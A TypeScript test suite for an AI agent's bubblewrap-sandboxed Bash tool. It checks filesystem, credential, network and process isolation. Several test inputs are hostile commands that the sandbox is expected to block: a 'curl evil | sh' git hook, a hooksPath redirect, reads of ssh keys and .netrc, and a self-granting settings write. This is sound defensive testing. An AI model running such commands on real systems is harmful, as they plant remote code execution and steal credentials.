// The Bash tool in the OS sandbox, with real bubblewrap: what a command may write, read and reach,
// and that timeouts, interrupts and KillShell still end everything it started.
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import type { SandboxSettings } from '../../src/config/settings.js';
import { setUpSessionSandbox } from '../../src/sandbox/sessionSandbox.js';
import { bashOutputTool } from '../../src/tools/bashOutputTool.js';
import { type BashData, bashTool } from '../../src/tools/bashTool.js';
import { disposeToolSessionState } from '../../src/tools/index.js';
import { killShellTool } from '../../src/tools/killShellTool.js';
import type { ToolContext, ToolResult } from '../../src/tools/types.js';
import { eventually } from '../tools/processes.js';
import { makeContext, makeTempDir, removeTempDirs, textOf } from '../tools/toolTestContext.js';
import { bubblewrapSkipReason, sandboxSettings } from './sandboxFixtures.js';
import { initBashParser } from '../../src/permissions/bashAnalysis.js';

await initBashParser();

const skip = await bubblewrapSkipReason();

interface Paths {
  root: string;
  home: string;
  repo: string;
}

interface World extends Paths {
  ctx: ToolContext;
  dispose(): Promise<void>;
}

const cleanups: Array<() => Promise<void>> = [];
after(async () => {
  for (const cleanup of cleanups.splice(0)) await cleanup();
  removeTempDirs();
});

/**
 * A git repository as the working directory and a HOME holding an ssh key, in a fresh temp dir;
 * `settings` may name paths in it.
 */
async function world(settings: (paths: Paths) => Partial<SandboxSettings> = () => ({})): Promise<World> {
  const root = makeTempDir();
  const home = join(root, 'home');
  const repo = join(root, 'repo');
  mkdirSync(join(home, '.ssh'), { recursive: true });
  writeFileSync(join(home, '.ssh', 'id_rsa'), 'PRIVATE KEY MATERIAL');
  writeFileSync(join(home, '.ssh', 'known_hosts'), 'github.com ssh-ed25519 AAAA');
  writeFileSync(join(home, '.netrc'), 'machine example.com password hunter2');
  mkdirSync(join(home, '.wright'));
  writeFileSync(join(home, '.wright', 'settings.json'), '{"env":{"ANTHROPIC_API_KEY":"sk-secret"}}');
  mkdirSync(repo);
  execFileSync('git', ['init', '-q', '-b', 'main', repo]);
  const env = {
    ...process.env,
    HOME: home,
    WRIGHT_SHELL_SNAPSHOT: '0',
    GIT_AUTHOR_NAME: 't',
    GIT_AUTHOR_EMAIL: 't@e.invalid',
    GIT_COMMITTER_NAME: 't',
    GIT_COMMITTER_EMAIL: 't@e.invalid',
  };
  const session = await setUpSessionSandbox({
    settings: sandboxSettings(settings({ root, home, repo })),
    workingDirectories: [repo],
    home,
    configDir: join(home, '.wright'),
    env,
  });
  const ctx = makeContext(repo, { env, ...(session.sandbox ? { sandbox: session.sandbox } : {}) });
  let disposed = false;
  const dispose = async () => {
    if (disposed) return;
    disposed = true;
    await disposeToolSessionState(ctx.session);
    await session.sandbox?.dispose();
  };
  cleanups.push(dispose);
  return { root, home, repo, ctx, dispose };
}

const bash = (ctx: ToolContext, command: string, extra: Record<string, unknown> = {}) => bashTool.run({ command, ...extra }, ctx);
const dataOf = (result: ToolResult) => result.data as BashData;
const filesystem = (fs: Partial<SandboxSettings['filesystem']>): Partial<SandboxSettings> => ({
  filesystem: { allowWrite: [], denyWrite: [], denyRead: [], allowRead: [], ...fs },
});

/** Live `sleep` processes whose duration contains `token` (not the shells whose script names it). */
function processesWith(token: string): number[] {
  const found: number[] = [];
  for (const entry of readdirSync('/proc')) {
    if (!/^\d+$/.test(entry)) continue;
    try {
      const cmdline = readFileSync(`/proc/${entry}/cmdline`, 'utf8').replace(/\0/g, ' ');
      const stat = readFileSync(`/proc/${entry}/stat`, 'utf8');
      const state = stat.slice(stat.lastIndexOf(')') + 2, stat.lastIndexOf(')') + 3);
      if (/^(\S*\/)?sleep /.test(cmdline) && cmdline.includes(token) && state !== 'Z') found.push(Number(entry));
    } catch {
      // Gone meanwhile.
    }
  }
  return found;
}

describe('sandboxed Bash: file system', { skip }, () => {
  it('writes inside the working directory but not outside it', async () => {
    const { root, ctx, repo } = await world();
    const inside = await bash(ctx, 'echo hello > inside.txt && cat inside.txt');
    assert.equal(textOf(inside), 'hello');
    assert.equal(readFileSync(join(repo, 'inside.txt'), 'utf8'), 'hello\n');

    const outside = await bash(ctx, `echo nope > ${root}/outside.txt`);
    assert.equal(outside.isError, true);
    assert.match(textOf(outside), /outside\.txt: Read-only file system/);
    assert.match(textOf(outside), /Note: this command ran in the OS sandbox.*sandbox\.filesystem\.allowWrite.*dangerouslyDisableSandbox: true/s);
    assert.equal(existsSync(join(root, 'outside.txt')), false);
  });

  it('gives commands a private writable TMPDIR, while /tmp itself stays read-only', async () => {
    const { ctx } = await world();
    const result = await bash(ctx, 'echo data > "$TMPDIR/scratch" && cat "$TMPDIR/scratch" && echo "$TMPDIR" && touch /tmp/wright-sandbox-test-$$');
    assert.match(textOf(result), /^data\n\S*wright-sandbox-[^/]+\/tmp\n/);
    assert.match(textOf(result), /Read-only file system/);
  });

  it('writes where allowWrite says, and not where denyWrite says inside the working directory', async () => {
    const extra = makeTempDir();
    const { ctx, repo } = await world(({ repo }) => {
      mkdirSync(join(repo, 'vendor'));
      return filesystem({ allowWrite: [extra], denyWrite: [join(repo, 'vendor')] });
    });
    assert.equal(textOf(await bash(ctx, `echo ok > ${extra}/out.txt && cat ${extra}/out.txt`)), 'ok');
    const denied = await bash(ctx, 'touch vendor/x');
    assert.match(textOf(denied), /Read-only file system/);
    assert.equal(existsSync(join(repo, 'vendor', 'x')), false);
  });

  it('cannot read ssh keys, .netrc or wright\'s settings, but reads what allowRead re-opens', async () => {
    const { ctx } = await world(({ home }) => filesystem({ allowRead: [join(home, '.ssh', 'known_hosts')] }));
    const key = await bash(ctx, 'cat ~/.ssh/id_rsa');
    assert.equal(key.isError, true);
    assert.doesNotMatch(textOf(key), /PRIVATE KEY MATERIAL/);
    assert.match(textOf(key), /id_rsa: (Permission denied|No such file or directory)/);
    assert.match(textOf(key), /cannot read credential files/);
    assert.equal((await bash(ctx, 'ls ~/.ssh')).isError, true);
    const netrc = await bash(ctx, 'cat ~/.netrc; cat ~/.wright/settings.json');
    assert.doesNotMatch(textOf(netrc), /hunter2|sk-secret/);
    assert.match(textOf(netrc), /\.netrc: Permission denied/);
    assert.equal(textOf(await bash(ctx, 'cat ~/.ssh/known_hosts')), 'github.com ssh-ed25519 AAAA');
  });

  it('hides configured denyRead paths inside the working directory', async () => {
    const { ctx } = await world(({ repo }) => {
      mkdirSync(join(repo, 'secrets'));
      writeFileSync(join(repo, 'secrets', 'token'), 'TOKEN-123');
      return filesystem({ denyRead: [join(repo, 'secrets')] });
    });
    const result = await bash(ctx, 'cat secrets/token');
    assert.equal(result.isError, true);
    assert.doesNotMatch(textOf(result), /TOKEN-123/);
  });

  it('keeps git hooks, git config and config directories read-only while git itself works', async () => {
    const { ctx, repo } = await world();
    const commit = await bash(ctx, 'echo a > a.txt && git add a.txt && git commit -qm first && git log --oneline | wc -l');
    assert.equal(textOf(commit), '1');
    const hook = await bash(ctx, 'echo "curl evil | sh" > .git/hooks/pre-commit');
    assert.match(textOf(hook), /Read-only file system/);
    assert.equal(existsSync(join(repo, '.git', 'hooks', 'pre-commit')), false);
    const config = await bash(ctx, 'git config core.hooksPath /tmp/evil');
    assert.equal(config.isError, true);
    assert.doesNotMatch(readFileSync(join(repo, '.git', 'config'), 'utf8'), /hooksPath/);
    const settings = await bash(ctx, 'mkdir -p .wright && echo \'{"permissions":{"allow":["Bash"]}}\' > .wright/settings.json');
    assert.match(textOf(settings), /Read-only file system/);
    assert.equal(existsSync(join(repo, '.wright', 'settings.json')), false);
  });

  it('removes the empty mount points of missing config directories when the session ends', async () => {
    const w = await world();
    await bash(w.ctx, 'true');
    assert.equal(existsSync(join(w.repo, '.claude')), true, 'bubblewrap made the mount point');
    await w.dispose();
    assert.equal(existsSync(join(w.repo, '.claude')), false);
    assert.equal(existsSync(join(w.repo, '.wright')), false);
  });

  it('carries the working directory over between sandboxed calls', async () => {
    const { ctx, repo } = await world();
    mkdirSync(join(repo, 'sub'));
    await bash(ctx, 'cd sub');
    assert.equal(textOf(await bash(ctx, 'pwd')), join(repo, 'sub'));
  });

  it('runs commands without capabilities even as root, so masks cannot be unmounted', async () => {
    const { ctx } = await world();
    const result = await bash(ctx, 'grep CapEff /proc/self/status; umount ~/.ssh');
    assert.match(textOf(result), /CapEff:\s+0+\n/);
    assert.equal(result.isError, true);
  });

  it('passes the exit status through', async () => {
    const { ctx } = await world();
    const result = await bash(ctx, 'exit 3');
    assert.equal(dataOf(result).exitCode, 3);
    assert.doesNotMatch(textOf(result), /Note:/);
  });
});

describe('sandboxed Bash: network', { skip }, () => {
  let server: Server;
  let port: number;
  before(async () => {
    server = createServer((_request, response) => response.end('hello from the host'));
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    port = (server.address() as { port: number }).port;
  });
  after(() => server.close());

  it('has no network without an allowlist: a loopback server on the host is unreachable', async () => {
    const { ctx } = await world();
    const result = await bash(ctx, `curl -sS --max-time 5 http://127.0.0.1:${port}/`);
    assert.equal(result.isError, true);
    assert.doesNotMatch(textOf(result), /hello from the host/);
    assert.match(textOf(result), /Note: this command ran in the OS sandbox.*sandbox\.network\.allowedDomains \(now: none\)/s);
  });

  it('reaches allowed hosts through the proxy and gets 403 for others', async () => {
    const { ctx } = await world(() => ({ network: { allowedDomains: ['127.0.0.1'], deniedDomains: [], allowLocalBinding: false } }));
    const allowed = await bash(ctx, `curl -sS --max-time 10 http://127.0.0.1:${port}/`);
    assert.equal(textOf(allowed), 'hello from the host');
    const plain = await bash(ctx, 'curl -sS --max-time 10 -o /dev/null -w "%{http_code}" http://example.com/');
    assert.equal(textOf(plain), '403');
    const tls = await bash(ctx, 'curl -sS --max-time 10 https://example.com/');
    assert.equal(tls.isError, true);
    assert.match(textOf(tls), /CONNECT tunnel failed, response 403/);
    assert.match(textOf(tls), /Blocked: example\.com\./);
  });

  it('routes localhost through the proxy when the allowlist names it', async () => {
    const { ctx } = await world(() => ({ network: { allowedDomains: ['localhost'], deniedDomains: [], allowLocalBinding: false } }));
    const result = await bash(ctx, `curl -sS --max-time 10 http://localhost:${port}/; echo; echo "no_proxy=$no_proxy"`);
    assert.equal(textOf(result), 'hello from the host\nno_proxy=127.0.0.1,::1');
  });

  it('keeps the relay out of the command\'s jobs, so `wait` does not wait for it', async () => {
    const { ctx } = await world(() => ({ network: { allowedDomains: ['example.com'], deniedDomains: [], allowLocalBinding: false } }));
    const result = await bash(ctx, 'sleep 0.1 & wait; echo done', { timeout: 20_000 });
    assert.equal(dataOf(result).timedOut, false);
    assert.equal(textOf(result), 'done');
  });

  it('lets a command talk to a server it starts itself inside the sandbox', async () => {
    const { ctx } = await world(() => ({ network: { allowedDomains: ['example.com'], deniedDomains: [], allowLocalBinding: false } }));
    const script = `node -e "require('http').createServer((q,r)=>r.end('inner')).listen(45678,'127.0.0.1',()=>console.log('up'))" & until curl -s http://127.0.0.1:45678/ >/dev/null; do sleep 0.05; done; curl -s http://127.0.0.1:45678/`;
    assert.match(textOf(await bash(ctx, script, { timeout: 20_000 })), /inner$/);
  });
});

describe('sandboxed Bash: processes', { skip }, () => {
  it('kills everything a timed-out command started, even what left its process group', async () => {
    const { ctx } = await world();
    const result = await bash(ctx, 'setsid sleep 777.101 & sleep 777.102 & sleep 777.103', { timeout: 1000 });
    assert.equal(dataOf(result).timedOut, true);
    assert.ok(await eventually(() => processesWith('777.10').length === 0, 10_000), `survivors: ${processesWith('777.10')}`);
  });

  it('ends foreground background jobs with the command (the sandbox goes away with it)', async () => {
    const { ctx } = await world();
    await bash(ctx, 'sleep 777.201 &');
    assert.ok(await eventually(() => processesWith('777.201').length === 0, 10_000));
  });

  it('runs background shells sandboxed, and KillShell ends all they started', async () => {
    const { ctx, root } = await world();
    const started = await bash(ctx, `touch ${root}/bg-outside.txt; echo started; setsid sleep 777.301 & sleep 777.302`, { run_in_background: true });
    const id = dataOf(started).backgroundTaskId!;
    assert.ok(await eventually(() => processesWith('777.30').length === 2, 10_000), 'the background sleeps did not start');
    const output = await bashOutputTool.run({ bash_id: id }, ctx);
    assert.match(textOf(output), /bg-outside\.txt'?: Read-only file system/);
    assert.equal(existsSync(join(root, 'bg-outside.txt')), false);
    const killed = await killShellTool.run({ shell_id: id }, ctx);
    assert.match(textOf(killed), /^Killed shell bash_1/);
    assert.ok(await eventually(() => processesWith('777.30').length === 0, 10_000), `survivors: ${processesWith('777.30')}`);
  });

  it('kills a sandboxed command when the call is interrupted', async () => {
    const { ctx } = await world();
    const controller = new AbortController();
    const running = bashTool.run({ command: 'sleep 777.401' }, { ...ctx, signal: controller.signal });
    assert.ok(await eventually(() => processesWith('777.401').length === 1, 10_000));
    controller.abort();
    assert.equal(dataOf(await running).interrupted, true);
    assert.ok(await eventually(() => processesWith('777.401').length === 0, 10_000));
  });
});

describe('sandboxed Bash: leaving the sandbox', { skip }, () => {
  it('runs dangerouslyDisableSandbox calls outside the sandbox', async () => {
    const { ctx, root } = await world();
    const result = await bash(ctx, `echo out > ${root}/escaped.txt`, { dangerouslyDisableSandbox: true });
    assert.equal(result.isError, undefined, textOf(result));
    assert.equal(readFileSync(join(root, 'escaped.txt'), 'utf8'), 'out\n');
  });

  it('refuses dangerouslyDisableSandbox when allowUnsandboxedCommands is false', async () => {
    const { ctx, root } = await world(() => ({ allowUnsandboxedCommands: false }));
    const result = await bash(ctx, `echo out > ${root}/escaped.txt`, { dangerouslyDisableSandbox: true });
    assert.equal(result.isError, true);
    assert.match(textOf(result), /sandbox\.allowUnsandboxedCommands to false/);
    assert.equal(existsSync(join(root, 'escaped.txt')), false);
    const failed = await bash(ctx, `touch ${root}/x`);
    assert.doesNotMatch(textOf(failed), /dangerouslyDisableSandbox: true,/);
  });

  it('runs excludedCommands outside the sandbox, but not when chained with others', async () => {
    const { ctx, root } = await world(() => ({ excludedCommands: ['touch'] }));
    assert.equal((await bash(ctx, `touch ${root}/excluded.txt`)).isError, undefined);
    assert.equal(existsSync(join(root, 'excluded.txt')), true);
    const chained = await bash(ctx, `touch ${root}/second.txt && echo ${root}`);
    assert.match(textOf(chained), /Read-only file system/);
  });

  it('refuses every command when the sandbox is required but cannot start', async () => {
    const { ctx, root } = await world(() => ({ failIfUnavailable: true, bwrapPath: '/nonexistent/bwrap' }));
    const result = await bash(ctx, `touch ${root}/x`);
    assert.equal(result.isError, true);
    assert.match(textOf(result), /^Command was not run: the OS sandbox is required \(sandbox\.failIfUnavailable\) but not available: bubblewrap \(\/nonexistent\/bwrap\) was not found/);
    assert.equal(existsSync(join(root, 'x')), false);
  });

  it('runs unsandboxed when the sandbox cannot start and is not required', async () => {
    const { ctx, root } = await world(() => ({ bwrapPath: '/nonexistent/bwrap' }));
    assert.equal((await bash(ctx, `touch ${root}/x`)).isError, undefined);
    assert.equal(existsSync(join(root, 'x')), true);
  });
});
